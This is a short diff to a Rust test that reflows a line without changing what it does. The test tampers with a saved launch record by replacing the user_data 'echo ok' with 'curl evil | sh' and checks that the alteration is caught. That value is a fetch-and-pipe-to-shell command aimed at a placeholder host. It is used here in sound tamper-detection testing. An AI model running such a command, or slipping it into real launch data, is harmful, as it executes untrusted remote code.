@@ -315,7 +315,10 @@ mod tests {
         let original = lines(dir.path());
         // Another user data in the unfinished launch (a command to run on the node).
         let mut edited = original.clone();
-        edited[2] = edited[2].replace("\"user_data\":\"echo ok\"", "\"user_data\":\"curl evil | sh\"");
+        edited[2] = edited[2].replace(
+            "\"user_data\":\"echo ok\"",
+            "\"user_data\":\"curl evil | sh\"",
+        );
         assert_ne!(edited, original);
         write_lines(dir.path(), &edited);
         let err = interrupted(dir.path(), &test_key()).expect_err("altered");
